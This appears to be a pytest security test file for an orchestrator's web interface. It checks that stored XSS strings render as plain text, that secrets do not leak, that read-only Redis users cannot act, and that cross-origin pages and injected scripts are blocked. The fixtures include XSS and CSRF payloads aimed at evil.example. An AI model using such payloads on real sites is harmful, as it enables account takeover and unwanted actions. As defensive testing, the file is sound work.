"""Attacks by what documents, executors and users store, by Redis users with few rights, and by other pages.

test_hostile_lists.py and test_execution_page.py show such texts in a browser. Here every answer is parsed,
and whatever a browser would run or load is found in it.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from browsers import Tabs
from orchestrator import web
from orchestrator.client import Client
from orchestrator.web.application import all_routes
from servers.asgi_sender import FORM, JSON, Answer, AsgiSender, Ask
from servers.guarded_redis import guarded_redis
from servers.page_server import PAGE, PageServer
from servers.redis_contents import snapshot
from servers.web import Reply
from servers.web import site as web_site
from worlds.documents import document, step
from worlds.listed_pages import HOSTILE_TEXTS
from worlds.page_executions import run_execution
from worlds.redis_world import RedisWorld

TEXTS = {
    **HOSTILE_TEXTS,
    "a link": "javascript:alert(document.domain)//",
    "an end of everything": "\"'>--></title></script></style></textarea></svg><base href=//evil.example>",
    "markup that swallows the rest": "<img src='//evil.example/?",
    "an element of SVG": "<svg><script href=data:,alert(1) /><foreignObject><iframe srcdoc=x>",
    "a form": "<form action=//evil.example><button formaction=//evil.example>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a style": "<style>@import'//evil.example';*{display:none}</style>",
    "entities": "&lt;script&gt;&#60;img src=x&#62;&amp;lt;",
    "line separators": "a\u2028b\u2029c\u0085d",
}
HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
VIEWS = ("graph", "timeline", "steps", "events", "why", "record")
LISTS = ("/executions", "/failures", "/start", "/schedules", "/dead-letters", "/doctor", "/queues")
TAGS = """
    a article aside b body br button caption code datalist dd details div dl dt em fieldset footer form h1 h2
    h3 head header hr html i input kbd label legend li link main meta nav ol option output p pre script
    section select small span strong summary table tbody td textarea th thead time title tr ul
    circle defs desc g line marker path polygon polyline rect svg symbol text tspan use
"""
"""What a page of ours may consist of."""
OWN_TAGS = frozenset(TAGS.split())


class Markup(HTMLParser):
    """Collects from a page what a browser would run or load that is not ours."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.shown: list[str] = []
        self._in_script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self._in_script = tag == "script"
        if tag not in OWN_TAGS or (tag == "script" and not _is_own(values.get("src"))):
            self.found.append(f"<{tag}> {attrs}")
        if tag == "meta" and "http-equiv" in values:
            self.found.append(f"<meta> {attrs}")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background", "ping"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "xlink:href") and not _is_own(value):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("title", "aria-label", "placeholder", "alt", "label"):
                self.shown.append(value or "")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"an inline script: {data[:80]}")
        self.shown.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment: {data[:80]}")


def _is_own(path: str | None) -> bool:
    """Whether a path stays on this host."""
    return path is not None and re.fullmatch(r"|#.*|/|/[^/\\].*", path) is not None


def check_page(answer: Answer, path: str) -> None:
    page = Markup(answer.text)
    assert page.found == [], path
    assert HIDDEN.search("".join(page.shown)) is None, path


def store_everywhere(world: RedisWorld, text: str) -> None:
    """Put a text wherever a document, an executor, a user or another program can."""

    def fail(inputs: Any) -> Any:
        raise type(text.encode("ascii", "ignore").decode() or "E", (ValueError,), {})(text)

    label = "".join(char for char in text if char.isprintable())[:60]
    shown = {"name": text, "label": text, "description": text}
    spec = document(
        {**shown, "id": "good", "fn": "good", "input": {"x": 1, "v": {"var": "input.v"}}},
        {**shown, "id": "bad", "fn": "bad", "depends_on": ["good"], "retry": 0},
        {"id": "ask", "wait": {"signal": "s"}},
        name=text,
        description=text,
        inputs={"v": {"default": text}},
    )
    full_id = run_execution(
        world,
        spec,
        {"good": lambda inputs: {text: [text]}, "bad": fail},
        execution_id="hostile",
        labels=json.dumps({"k": label}),
    )
    coordinator = world.coordinator("two")
    events = world.keys.events_of(full_id)
    control = {"type": "control", "execution": full_id, "reason": text, "by": text}
    world.send(events, {**control, "action": "cancel"})
    world.send(events, {"type": "signal", "execution": full_id, "name": text, "payload": json.dumps(text)})
    world.send(events, {"type": text, "execution": full_id, text: text})
    world.settle(coordinator)
    Client(world.client).register(text, {**spec, "schedule": {"cron": "0 0 1 1 *"}})


@pytest.fixture
def local(redis_url: str) -> AsgiSender:
    return AsgiSender(web.app(redis_url), PAGE)


@pytest.mark.parametrize("kind", TEXTS)
def test_a_stored_text_is_only_text_on_every_page(world: RedisWorld, local: AsgiSender, kind: str) -> None:
    text = TEXTS[kind]
    store_everywhere(world, text)

    paths = [f"/executions/hostile?view={view}&step={unit}" for view in VIEWS for unit in ("good", "bad")]
    paths += [
        f"/executions/hostile?part={part}&step=bad" for part in ("summary", "graph", "timeline", "step")
    ]
    paths += [*LISTS, "/start?from=hostile", "/executions?text=k"]
    answers = local.send_all(Ask("GET", path) for path in paths)
    name = text.encode().hex("%")
    form = local.send("GET", f"/start?workflow=%{name}")

    for path, answer in zip([*paths, "the form"], [*answers, form], strict=True):
        assert answer.status == 200, path
        check_page(answer, path)
    assert "hostile" in answers[0].text


@pytest.mark.parametrize("kind", TEXTS)
def test_a_stored_text_is_only_text_in_a_picture_and_data(
    world: RedisWorld, local: AsgiSender, kind: str
) -> None:
    store_everywhere(world, TEXTS[kind])

    picture = local.send("GET", "/api/v1/executions/hostile/graph.svg")

    assert picture.header("content-type") == "image/svg+xml"
    for element in ElementTree.fromstring(picture.text).iter():
        tag = element.tag.rpartition("}")[2]
        assert tag in {*OWN_TAGS, "style"}, tag
        assert tag != "script"
        assert [name for name in element.attrib if name.startswith("on") or name.endswith("href")] == []
    for path in ("", "/steps", "/history", "/log", "/explain", "/graph", "/outputs", "/status", "/attempts"):
        answer = local.send("GET", f"/api/v1/executions/hostile{path}")
        assert str(answer.header("content-type")).startswith("application/"), path
        assert "html" not in str(answer.header("content-type"))
        assert answer.header("x-content-type-options") == "nosniff"
        assert answer.header("content-disposition") is None
        json.loads(answer.body)


# ---- secrets

SECRET = "correct-horse-battery"


def test_a_secret_is_in_no_answer_about_its_execution(world: RedisWorld, redis_url: str) -> None:
    def fail(inputs: Any) -> Any:
        raise ValueError(f"cannot use {inputs['password']}")

    spec = document(
        step("a", fn="keep", input={"api_key": {"var": "input.password"}}),
        step("b", fn="fail", after="a", input={"password": {"var": "input.password"}}, retry=0),
        name="keeps",
    )
    run_execution(
        world,
        spec,
        {"keep": lambda inputs: {"token": SECRET, "note": f"it is {SECRET}"}, "fail": fail},
        execution_id="x",
        inputs={"password": SECRET},
    )
    Client(world.client).register("keeps", spec)
    paths = {
        re.sub(r"\{execution\}", "x", route.path) for route in all_routes() if "GET" in (route.methods or ())
    }
    queries = (
        "",
        "?step=b",
        *(f"?view={view}&step=b" for view in VIEWS),
        "?from=x",
        "?workflow=keeps",
        "?payloads=true",
    )
    endless = ("/live", "/events")

    local = AsgiSender(web.app(redis_url))
    asks = [
        Ask("GET", path + query, accept)
        for path in sorted(paths)
        for query in queries
        for accept in (PAGE, {})
        if "{" not in path and not path.endswith(endless)
    ]
    answers = local.send_all(asks)

    assert sum(one.status == 200 for one in answers) > 100
    leaks = {ask.path for ask, one in zip(asks, answers, strict=True) if SECRET in one.text}
    assert leaks == set()


# ---- rights in Redis


def test_a_redis_user_that_only_reads_rejects_every_action_of_every_route(tmp_path: Path) -> None:
    """Also if the page lets it pass: nothing in Redis is another afterwards."""
    with guarded_redis(tmp_path) as guarded:
        admin = guarded.client("admin")
        world = RedisWorld(lambda: guarded.client("admin"))
        client = Client(admin)
        run_execution(world, document(step("a"), name="order"), execution_id="x")
        scheduled = {**document(step("a"), name="order"), "schedule": {"cron": "0 0 1 1 *"}}
        client.register("order", scheduled)
        [letter] = [
            admin.xadd("orchestrator:dead", {"reason": "r", "stream": "s", "entry": "1-1", "event": "{}"})
        ]
        before = snapshot(admin)
        [full_id] = [one.workflow_execution_id for one in client.list().executions]

        page = AsgiSender(web.app(guarded.url("reader")))
        full_id = full_id.replace("#", "%23")
        fields = (
            f"id={full_id}&ids={full_id}&entry={letter}&entries={letter}&name=order&step=a&workflow=order"
        )
        bodies = [f"{fields}&action={action}" for action in ("drop", "resend", "cancel", "delete")]
        values = {"execution": "x", "workflow": "order", "entry": letter, "action": "delete"}
        asks = []
        for route in all_routes():
            path = re.sub(r"\{(\w+)\}", lambda found: values.get(found[1], "x"), route.path)
            for method in (route.methods or set()) - {"GET", "HEAD"}:
                if path.startswith("/api/"):
                    data = [{}, {"name": "order"}, {"step": "a"}, {"workflow": "order"}, {"ids": ["x"]}]
                    asks += [
                        Ask(method, f"{path}{query}", JSON, json.dumps(one).encode())
                        for one in data
                        for query in ("", "?workflow=order")
                    ]
                else:
                    asks += [Ask(method, path, FORM, body.encode()) for body in bodies]
        answers = page.send_all(asks)

        assert snapshot(admin) == before
        assert sum(one.code == "forbidden_by_redis" for one in answers) > 20
        assert [
            f"{ask} {one.text[:300]}" for ask, one in zip(asks, answers, strict=True) if one.status >= 500
        ] == []
        world.close()


# ---- what only a browser prevents

ATTACKS = """<!doctype html><title>evil</title>
<iframe name=frame src="{url}/executions"></iframe>
<img src="{url}/static/logo.svg"><script src="{url}/static/page.js"></script>
<form method=post action="{url}/executions/x/delete" target=frame><input name=reason value=evil></form>
"""
FETCH = """async url => {
    const results = {};
    for (const mode of ["cors", "no-cors"]) {
        try { results[mode] = (await fetch(url + "/executions/x/delete", {mode, method: "POST",
            credentials: "include", body: new URLSearchParams({a: 1})})).type; }
        catch (error) { results[mode] = error.name; }
    }
    try { results.read = await (await fetch(url + "/api/v1/executions")).text(); }
    catch (error) { results.read = error.name; }
    document.forms[0].submit();
    return results;
}"""


@pytest.fixture
def evil(site: PageServer) -> Iterator[str]:
    """A page of another origin on this host."""
    body = ATTACKS.format(url=site.url).encode()
    with web_site(lambda asked: Reply(200, body, {"Content-Type": "text/html"})) as server:
        yield server.url


def test_a_page_of_another_origin_can_neither_frame_nor_load_nor_act_nor_read(
    world: RedisWorld, site: PageServer, evil: str, tabs: Tabs
) -> None:
    run_execution(world, execution_id="x")
    before = snapshot(world.client)
    page = tabs.open(base_url=evil)

    with page.expect_response(re.compile("/delete")):
        page.goto("/")
        results = page.evaluate(FETCH, site.url)
    page.wait_for_load_state("networkidle")

    assert results == {"cors": "TypeError", "no-cors": "TypeError", "read": "TypeError"}
    assert "Executions" not in (page.frames[1].content() if len(page.frames) > 1 else "")
    assert page.locator("img").evaluate("image => image.naturalWidth") == 0
    assert snapshot(world.client) == before
    tabs.errors.messages.clear()


def test_an_inline_script_that_got_into_a_page_would_not_run(
    world: RedisWorld, site: PageServer, tabs: Tabs
) -> None:
    page = tabs.open()
    page.goto("/executions")

    page.evaluate(
        """() => {
            const add = (tag, values) =>
                document.body.append(Object.assign(document.createElement(tag), values));
            add("script", {textContent: "document.title = 'taken over'"});
            add("script", {src: "data:text/javascript,document.title='taken over'"});
            add("img", {src: "https://evil.example/x"});
            add("iframe", {srcdoc: "<script>top.document.title = 'taken over'</script>"});
            add("a", {href: "javascript:document.title='taken over'", id: "link"});
            const image = "<img src=x onerror=\\"document.title='taken over'\\">";
            document.body.insertAdjacentHTML("beforeend", image);
            document.getElementById("link").click();
        }"""
    )
    page.wait_for_load_state("networkidle")

    assert page.title() != "taken over"
    tabs.errors.expect("Content Security Policy")
    tabs.errors.messages.clear()
